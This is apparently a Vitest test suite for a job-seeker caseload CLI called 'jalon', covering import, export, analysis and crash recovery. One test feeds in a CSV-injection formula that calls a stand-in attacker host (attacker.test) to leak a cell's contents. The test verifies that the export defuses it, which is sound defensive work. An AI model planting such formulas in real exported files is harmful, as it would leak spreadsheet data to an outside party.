import { describe, expect, it } from 'vitest';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import BetterSqlite3 from 'better-sqlite3-multiple-ciphers';
import { parse } from 'csv-parse/sync';
import { jalon, jalonInBackground } from '../helpers/cli';
import { jsonl, seeker } from '../helpers/journals';
import { useTempDir } from '../helpers/temp-dir';

const SEED_ARGS = ['--seekers', '40', '--months', '12', '--seed', '7', '--end', '2026-10'];

describe('jalon CLI', () => {
  const tempDir = useTempDir('jalon-cli-');

  it('documents every command with --help', () => {
    const top = jalon(['--help']);
    expect(top.status).toBe(0);
    for (const command of ['seed', 'import', 'export', 'stats', 'demo', 'analyze', 'purge']) {
      expect(top.stdout).toContain(command);
      const help = jalon([command, '--help']);
      expect(help.status).toBe(0);
      expect(help.stdout).toMatch(/Usage: jalon/);
      expect(help.stdout).toContain('--');
    }
  });

  it('seed is deterministic: same options, same bytes', () => {
    const a = join(tempDir(), 'a.jsonl');
    const b = join(tempDir(), 'b.jsonl');
    const c = join(tempDir(), 'c.jsonl');
    expect(jalon(['seed', ...SEED_ARGS, '--out', a]).status).toBe(0);
    expect(jalon(['seed', ...SEED_ARGS, '--out', b]).status).toBe(0);
    expect(
      jalon([
        'seed',
        '--seekers',
        '40',
        '--months',
        '12',
        '--seed',
        '8',
        '--end',
        '2026-10',
        '--out',
        c,
      ]).status,
    ).toBe(0);
    expect(readFileSync(a)).toEqual(readFileSync(b));
    expect(readFileSync(a)).not.toEqual(readFileSync(c));
    expect(readFileSync(a, 'utf8').trim().split('\n')).toHaveLength(40);
  });

  it('import --json prints exactly the documented shape; stats counts what was imported', () => {
    const file = join(tempDir(), 'demo.jsonl');
    const db = join(tempDir(), 'jalon.db');
    jalon(['seed', ...SEED_ARGS, '--out', file]);
    const first = jalon(['import', file, '--db', db, '--json']);
    expect(first.status).toBe(0);
    const summary = JSON.parse(first.stdout);
    expect(Object.keys(summary)).toEqual([
      'imported',
      'updated',
      'unchanged',
      'rejected',
      'warnings',
      'rejectedCount',
      'warningCount',
    ]);
    expect(summary).toEqual({
      imported: 40,
      updated: 0,
      unchanged: 0,
      rejected: [],
      warnings: [],
      rejectedCount: 0,
      warningCount: 0,
    });

    const again = jalon(['import', file, '--db', db, '--json']);
    expect(again.status).toBe(0);
    expect(JSON.parse(again.stdout)).toEqual({
      imported: 0,
      updated: 0,
      unchanged: 40,
      rejected: [],
      warnings: [],
      rejectedCount: 0,
      warningCount: 0,
    });
    const human = jalon(['import', file, '--db', db]);
    expect(human.stdout).toMatch(/Nothing changed: this content was already imported/);

    const lines = readFileSync(file, 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    const actions = lines.reduce(
      (n, s) =>
        n + s.months.reduce((m: number, mo: { actions: unknown[] }) => m + mo.actions.length, 0),
      0,
    );
    const months = lines.reduce((n, s) => n + s.months.length, 0);
    const counsellors = new Set(lines.map((s) => s.counsellor_id)).size;
    const stats = jalon(['stats', '--db', db, '--json']);
    expect(stats.status).toBe(0);
    expect(JSON.parse(stats.stdout)).toEqual({ seekers: 40, months, actions, counsellors });
  });

  it('exits 3 with every rejected line when some lines are bad, 1 when nothing can be read', () => {
    const file = join(tempDir(), 'bad.jsonl');
    const db = join(tempDir(), 'jalon.db');
    writeFileSync(file, jsonl([seeker('S1'), '{"seeker_id":', seeker('S2', { category: 'Z' })]));
    const partial = jalon(['import', file, '--db', db, '--json']);
    expect(partial.status).toBe(3);
    const summary = JSON.parse(partial.stdout);
    expect(summary.imported).toBe(1);
    expect(summary.rejected).toEqual([
      { line: 2, reason: expect.stringMatching(/^invalid JSON/) },
      { line: 3, reason: 'category: expected one of A, B, C, D, E, F, G; got "Z"' },
    ]);

    const missing = jalon(['import', join(tempDir(), 'nope.jsonl'), '--db', db]);
    expect(missing.status).toBe(1);
    expect(missing.stderr.trim().split('\n')).toHaveLength(1);
    expect(missing.stderr).toMatch(/^jalon: .*nope\.jsonl: no such file/);
    expect(missing.stderr).not.toMatch(/\n\s+at /);

    const noDb = jalon(['stats', '--db', join(tempDir(), 'absent.db')]);
    expect(noDb.status).toBe(1);
    expect(noDb.stderr).toMatch(/^jalon: no database at/);

    const usage = jalon(['seed', '--seekers', 'many', '--out', join(tempDir(), 'x.jsonl')]);
    expect(usage.status).toBe(2);
    expect(usage.stderr).toMatch(/--seekers must be a whole number/);
  });

  it('export is canonical: import → export → import → export gives identical bytes, JSONL and CSV', () => {
    const seedFile = join(tempDir(), 'seed.jsonl');
    jalon(['seed', ...SEED_ARGS, '--out', seedFile]);
    const db1 = join(tempDir(), 'one.db');
    const db2 = join(tempDir(), 'two.db');
    const db3 = join(tempDir(), 'three.db');
    const e1 = join(tempDir(), 'e1.jsonl');
    const e2 = join(tempDir(), 'e2.jsonl');
    const e3 = join(tempDir(), 'e3.jsonl');
    expect(jalon(['import', seedFile, '--db', db1]).status).toBe(0);
    expect(jalon(['export', '--db', db1, '--out', e1]).status).toBe(0);
    expect(jalon(['import', e1, '--db', db2]).status).toBe(0);
    expect(jalon(['export', '--db', db2, '--out', e2]).status).toBe(0);
    expect(readFileSync(e2)).toEqual(readFileSync(e1));
    // The generator writes the canonical form already.
    expect(readFileSync(e1)).toEqual(readFileSync(seedFile));

    const csvDir = join(tempDir(), 'csv');
    expect(jalon(['export', '--db', db1, '--out', csvDir, '--format', 'csv']).status).toBe(0);
    const csvImport = jalon([
      'import',
      join(csvDir, 'seekers.csv'),
      join(csvDir, 'actions.csv'),
      '--db',
      db3,
      '--json',
    ]);
    expect(csvImport.status).toBe(0);
    expect(JSON.parse(csvImport.stdout).imported).toBe(40);
    expect(jalon(['export', '--db', db3, '--out', e3]).status).toBe(0);
    expect(readFileSync(e3)).toEqual(readFileSync(e1));
  });

  it('export --format csv neutralises cells a spreadsheet would run as formulas, and they import back as they were', () => {
    const db = join(tempDir(), 'hostile.db');
    const file = join(tempDir(), 'hostile.jsonl');
    const formula = '=HYPERLINK("http://attacker.test/?d="&A1,"Camille")';
    const hostile = seeker('S1', { first_name: formula, last_name: '@Martin' });
    writeFileSync(file, jsonl([hostile]));
    expect(jalon(['import', file, '--db', db]).status).toBe(0);
    const csvDir = join(tempDir(), 'hostile-csv');
    expect(jalon(['export', '--db', db, '--out', csvDir, '--format', 'csv']).status).toBe(0);

    const seekersCsv = readFileSync(join(csvDir, 'seekers.csv'), 'utf8');
    const row = seekersCsv.split('\n')[1]!;
    expect(
      row.startsWith(`S1,"'=HYPERLINK(""http://attacker.test/?d=""&A1,""Camille"")",'@Martin,`),
    ).toBe(true);
    // No cell of either file starts as a formula once the CSV quoting is taken off.
    const cells = (text: string) => (parse(text) as string[][]).flat();
    const actionsCsv = readFileSync(join(csvDir, 'actions.csv'), 'utf8');
    for (const cell of [...cells(seekersCsv), ...cells(actionsCsv)]) {
      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }

    const again = join(tempDir(), 'again.db');
    const back = jalon([
      'import',
      join(csvDir, 'seekers.csv'),
      join(csvDir, 'actions.csv'),
      '--db',
      again,
    ]);
    expect(back.status).toBe(0);
    const out = join(tempDir(), 'again.jsonl');
    expect(jalon(['export', '--db', again, '--out', out]).status).toBe(0);
    expect(JSON.parse(readFileSync(out, 'utf8'))).toMatchObject({
      first_name: formula,
      last_name: '@Martin',
    });
  });

  it('seed --format csv writes the two CSV files, which import like the JSONL', () => {
    const dir = join(tempDir(), 'demo-csv');
    expect(jalon(['seed', ...SEED_ARGS, '--format', 'csv', '--out', dir]).status).toBe(0);
    expect(existsSync(join(dir, 'seekers.csv')) && existsSync(join(dir, 'actions.csv'))).toBe(true);
    const jsonlFile = join(tempDir(), 'demo.jsonl');
    jalon(['seed', ...SEED_ARGS, '--out', jsonlFile]);
    const fromCsv = join(tempDir(), 'csv.db');
    const fromJsonl = join(tempDir(), 'jsonl.db');
    expect(
      jalon(['import', join(dir, 'actions.csv'), join(dir, 'seekers.csv'), '--db', fromCsv]).status,
    ).toBe(0);
    expect(jalon(['import', jsonlFile, '--db', fromJsonl]).status).toBe(0);
    expect(jalon(['stats', '--db', fromCsv, '--json']).stdout).toEqual(
      jalon(['stats', '--db', fromJsonl, '--json']).stdout,
    );
  });

  it('demo fills a database with the demo caseload, through the real import, once', () => {
    const db = join(tempDir(), 'demo.db');
    const first = jalon(['demo', '--db', db, '--seekers', '30']);
    expect(first.status).toBe(0);
    expect(first.stdout).toMatch(/Données de démonstration/);
    expect(first.stdout).toMatch(/30 imported, 0 updated, 0 unchanged/);
    expect(jalon(['demo', '--db', db, '--seekers', '30']).stdout).toMatch(
      /0 imported, 0 updated, 30 unchanged/,
    );
    expect(JSON.parse(jalon(['stats', '--db', db, '--json']).stdout).counsellors).toBeGreaterThan(
      5,
    );
  });

  it('analyze --json prints exactly the documented shape, from a file or the database', () => {
    const file = join(tempDir(), 'demo.jsonl');
    const db = join(tempDir(), 'analyzed.db');
    jalon(['seed', ...SEED_ARGS, '--out', file]);
    jalon(['import', file, '--db', db]);
    const fromFile = jalon(['analyze', file, '--as-of', '2026-10-30', '--json']);
    expect(fromFile.status).toBe(0);
    const out = JSON.parse(fromFile.stdout);
    expect(Object.keys(out)).toEqual(['as_of', 'seekers']);
    expect(out.as_of).toBe('2026-10-30');
    expect(out.seekers).toHaveLength(40);
    for (const s of out.seekers) {
      expect(Object.keys(s)).toEqual(['seeker_id', 'attention', 'signals', 'recommendations']);
      expect(s.attention).toBeGreaterThanOrEqual(0);
      expect(s.attention).toBeLessThanOrEqual(100);
      for (const sig of s.signals) {
        expect(Object.keys(sig)).toEqual(['id', 'severity', 'evidence']);
        expect(sig.evidence.every((e: unknown) => typeof e === 'string' && e.length > 0)).toBe(
          true,
        );
      }
      for (const rec of s.recommendations) {
        const keys =
          rec.id === 'broaden_search'
            ? ['id', 'rank', 'score', 'reasons', 'suggested_rome']
            : ['id', 'rank', 'score', 'reasons'];
        expect(Object.keys(rec)).toEqual(keys);
      }
    }
    expect(out.seekers.some((s: { signals: unknown[] }) => s.signals.length > 0)).toBe(true);
    const fromDb = jalon(['analyze', '--db', db, '--as-of', '2026-10-30', '--json']);
    expect(JSON.parse(fromDb.stdout)).toEqual(out);
    const one = JSON.parse(
      jalon([
        'analyze',
        '--db',
        db,
        '--as-of',
        '2026-10-30',
        '--json',
        '--seeker',
        out.seekers[3].seeker_id,
      ]).stdout,
    );
    expect(one.seekers).toEqual([out.seekers[3]]);
    const readable = jalon(['analyze', '--db', db, '--as-of', '2026-10-30'], {
      LANG: 'fr_FR.UTF-8',
    });
    expect(readable.stdout).toMatch(/Analyse au 2026-10-30 — 40 personne/);
    const english = jalon(['analyze', '--db', db, '--as-of', '2026-10-30']);
    expect(english.stdout).toMatch(/^Analysis as of 2026-10-30 — 40 people, most attention first/);
    expect(jalon(['analyze', '--db', db, '--as-of', '30/10/2026']).status).toBe(2);
    const missing = join(tempDir(), 'absent.db');
    expect(jalon(['analyze', '--db', missing]).stderr).toMatch(/^jalon: no database at/);
    expect(existsSync(missing)).toBe(false);
  });

  it('uses JALON_DB when --db is absent', () => {
    const file = join(tempDir(), 'demo.jsonl');
    const db = join(tempDir(), 'from-env.db');
    jalon(['seed', ...SEED_ARGS, '--out', file]);
    expect(jalon(['import', file], { JALON_DB: db }).status).toBe(0);
    expect(JSON.parse(jalon(['stats', '--json'], { JALON_DB: db }).stdout).seekers).toBe(40);
  });

  it('a kill -9 in the middle of an import leaves a sound database, and the rerun completes it', async () => {
    const file = join(tempDir(), 'big.jsonl');
    const db = join(tempDir(), 'killed.db');
    const seekers = 3000;
    expect(
      jalon([
        'seed',
        '--seekers',
        String(seekers),
        '--months',
        '24',
        '--seed',
        '3',
        '--end',
        '2026-10',
        '--out',
        file,
      ]).status,
    ).toBe(0);
    const child = jalonInBackground(['import', file, '--db', db]);
    const exited = new Promise((done) => child.on('exit', done));
    // Kill as soon as some batches are committed, well before the end.
    let committed = 0;
    for (let i = 0; i < 600 && committed === 0; i++) {
      await new Promise((r) => setTimeout(r, 50));
      if (!existsSync(db)) continue;
      try {
        const reader = new BetterSqlite3(db, { readonly: true });
        committed = (reader.prepare('SELECT count(*) AS n FROM seekers').get() as { n: number }).n;
        reader.close();
      } catch {
        // The schema may not exist yet.
      }
    }
    child.kill('SIGKILL');
    await exited;
    expect(committed).toBeGreaterThan(0);

    const check = new BetterSqlite3(db);
    expect(check.pragma('integrity_check', { simple: true })).toBe('ok');
    expect(check.pragma('foreign_key_check')).toEqual([]);
    const partial = (check.prepare('SELECT count(*) AS n FROM seekers').get() as { n: number }).n;
    check.close();
    expect(partial).toBeLessThan(seekers);

    const rerun = jalon(['import', file, '--db', db, '--json']);
    expect(rerun.status).toBe(0);
    const summary = JSON.parse(rerun.stdout);
    expect(summary.imported + summary.unchanged).toBe(seekers);
    expect(summary.unchanged).toBeGreaterThanOrEqual(partial);

    const clean = join(tempDir(), 'clean.db');
    jalon(['import', file, '--db', clean]);
    expect(jalon(['stats', '--db', db, '--json']).stdout).toEqual(
      jalon(['stats', '--db', clean, '--json']).stdout,
    );
  });
});
